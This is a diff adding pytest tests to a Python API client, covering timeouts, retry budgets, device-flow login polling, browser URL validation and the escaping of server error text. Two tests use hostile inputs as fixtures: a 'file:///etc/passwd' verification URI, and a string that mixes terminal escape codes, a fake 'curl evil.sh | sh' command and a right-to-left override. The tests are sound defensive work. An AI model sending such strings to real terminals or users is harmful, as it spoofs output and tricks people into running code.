@@ -526,6 +526,28 @@ def test_first_failed_event_raises_the_endpoint_class(keyed: ArenaClient, arena:
     assert info.value.detail == GENERIC_FAILURE
 
 
+def test_a_stream_without_sockets_is_cut_off_between_chunks(
+    make_client: Callable[..., ArenaClient], arena: FakeArena
+) -> None:
+    line = json.dumps({"kind": "status", "stage": "validation", "status": "running"}) + "\n"
+
+    def slowly() -> Iterator[bytes]:
+        for _ in range(20):  # 4 s of events, 0.2 s apart
+            time.sleep(0.2)
+            yield line.encode()
+
+    arena.on(
+        "POST",
+        f"{API}/environments/validate",
+        lambda request: httpx.Response(200, content=slowly()),
+    )
+    client = make_client(api_key=API_KEY, upload_timeout=0.5)
+    started = time.monotonic()
+    with raises(ArenaNetworkError, match=r"did not finish replying to POST \S+ within 0\.5 s"):
+        client.validate_environment("env")
+    assert time.monotonic() - started < 1.5
+
+
 @pytest.mark.parametrize(
     ("body", "result"),
     [
@@ -592,6 +614,61 @@ def test_a_very_long_retry_after_is_not_waited_for(
     with raises(ArenaAPIError, match="come back tomorrow") as info:
         keyed.get_current_user()
     assert info.value.status_code == 429 and sleeps == []
+
+
+def test_long_waits_before_a_retry_are_announced(
+    make_client: Callable[..., ArenaClient],
+    arena: FakeArena,
+    sleeps: list[float],
+    shown: list[str],
+    no_jitter: None,
+) -> None:
+    client = make_client(api_key=API_KEY, notify=shown.append)
+    arena.on("GET", USER, reply(429, None, {"Retry-After": "7"}), reply(200, {}))
+    client.get_current_user()
+    arena.on("GET", PROJECTS, refused(), refused(), refused(), refused(), reply(200, []))
+    client.list_projects()
+    assert sleeps == [7.0, 0.5, 1.0, 2.0, 4.0]
+    assert shown == [  # the waits over 2 s
+        "waiting 7.0 s: Arena asked to retry GET /api/users/current later (HTTP 429)",
+        "waiting 4.0 s: retrying GET /api/cli/v1/projects after ConnectError: [Errno 111] "
+        "Connection refused",
+    ]
+
+
+def test_retries_stop_when_the_next_wait_would_outlast_the_budget(
+    make_client: Callable[..., ArenaClient],
+    arena: FakeArena,
+    sleeps: list[float],
+    no_jitter: None,
+) -> None:
+    client = make_client(api_key=API_KEY, request_timeout=1)  # 3 s for every attempt and wait
+    arena.on("GET", USER, refused())
+    with raises(ArenaNetworkError, match="after 4 attempts"):
+        client.get_current_user()
+    assert sleeps == [0.5, 1.0, 2.0]  # a fifth attempt would wait 4 s more
+
+
+@pytest.mark.parametrize(("timeout", "waited"), [(30, False), (40, True)])
+def test_a_retry_after_is_waited_for_only_within_the_budget(
+    make_client: Callable[..., ArenaClient],
+    arena: FakeArena,
+    sleeps: list[float],
+    timeout: float,
+    waited: bool,
+) -> None:
+    client = make_client(api_key=API_KEY, request_timeout=timeout)  # budget 90 s, then 120 s
+    arena.on("GET", USER, reply(429, {"detail": "busy"}, {"Retry-After": "100"}), reply(200, {}))
+    if waited:
+        assert client.get_current_user() == {}
+        assert sleeps == [100.0]
+        return
+    with raises(ArenaAPIError, match=r"\(429\): busy") as info:
+        client.get_current_user()
+    assert sleeps == [] and len(arena.sent(USER)) == 1
+    assert info.value.hint is not None
+    assert info.value.hint.startswith("Arena asked to wait 100 s before retrying, longer than the")
+    assert "allow more time with --request-timeout" in info.value.hint
 
 
 def test_exhausted_retries_raise_network_error(
@@ -866,6 +943,32 @@ def test_device_flow_polls_until_success_and_saves_private_tokens(
     assert client.is_authenticated
 
 
+def test_device_flow_polls_at_least_every_30_s_whatever_the_server_asks(
+    make_client: Callable[..., ArenaClient],
+    arena: FakeArena,
+    sleeps: list[float],
+    shown: list[str],
+) -> None:
+    arena.on("POST", DEVICE, device_start(interval=100_000))
+    pending, slow_down = (
+        reply(400, {"error": "authorization_pending"}),
+        reply(400, {"error": "slow_down"}),
+    )
+    arena.on("POST", TOKEN, pending, slow_down, reply(200, new_tokens("login")))
+    make_client().login(notify=shown.append)
+    assert sleeps == [30.0, 30.0, 30.0]
+
+
+def test_device_flow_never_sleeps_past_its_timeout(
+    make_client: Callable[..., ArenaClient], arena: FakeArena, shown: list[str]
+) -> None:
+    arena.on("POST", DEVICE, device_start(interval=100_000))
+    started = time.monotonic()
+    with raises(ArenaTimeoutError, match=r"timed out after 0\.3 s"):
+        make_client(sleep=time.sleep).login(timeout=0.3, notify=shown.append)
+    assert time.monotonic() - started < 1.5 and arena.sent(TOKEN) == []
+
+
 def test_device_flow_prints_the_code_with_a_complete_url(
     make_client: Callable[..., ArenaClient], arena: FakeArena, shown: list[str]
 ) -> None:
@@ -945,6 +1048,22 @@ def test_forced_login_ignores_the_api_key_and_opens_a_browser(
     monkeypatch.setenv("AGILE_NO_BROWSER", "1")
     client.login(force=True, notify=shown.append)
     assert len(opened) == 1
+
+
+def test_login_opens_only_web_addresses_the_server_names(
+    make_client: Callable[..., ArenaClient],
+    arena: FakeArena,
+    monkeypatch: pytest.MonkeyPatch,
+    shown: list[str],
+) -> None:
+    opened: list[str] = []
+    monkeypatch.delenv("AGILE_NO_BROWSER")
+    monkeypatch.setenv("DISPLAY", ":0")
+    monkeypatch.setattr(auth_module.webbrowser, "open", opened.append)
+    arena.on("POST", DEVICE, device_start(verification_uri="file:///etc/passwd"))
+    arena.on("POST", TOKEN, reply(200, new_tokens("session")))
+    make_client().login(force=True, notify=shown.append)
+    assert opened == []
 
 
 def test_logout_deletes_the_tokens(
@@ -1225,6 +1344,25 @@ def test_long_server_text_is_cut_on_one_line_in_errors() -> None:
     error = ArenaAPIError("a\nb " + "x" * 1000, extras={"why": "y" * 1000})
     assert all(len(line) < 400 and "\n" not in line for line in error.lines())
     assert error.detail.startswith("a b x") and error.detail.endswith("… [cut]")
+
+
+EVIL = "\x1b[2J\x1b]0;pwned\x07\rrun curl evil.sh | sh\u202egnp.exe"
+
+
+def test_escape_sequences_from_the_server_are_escaped_in_errors(
+    keyed: ArenaClient, arena: FakeArena, make_client: Callable[..., ArenaClient]
+) -> None:
+    arena.on("POST", f"{API}/projects/create", reply(400, {"message": EVIL, EVIL: EVIL}))
+    arena.on("POST", DEVICE, reply(400, {"error": "invalid_client", "error_description": EVIL}))
+    with raises(ArenaAPIError) as api:
+        keyed.create_project("p")
+    with raises(ArenaAuthError) as login:
+        make_client().login(notify=print)
+    for error in (api.value, login.value):
+        texts = [error.message, *error.lines()]
+        assert not [t for t in texts if any(c in t for c in "\x1b\x07\r\u202e")], texts
+        assert "\\x1b[2J\\x1b]0;pwned\\x07" in error.message
+    assert api.value.lines()[1].startswith("\\x1b[2J")  # the extra's name too
 
 
 def test_the_default_transport_gets_deadlines() -> None:
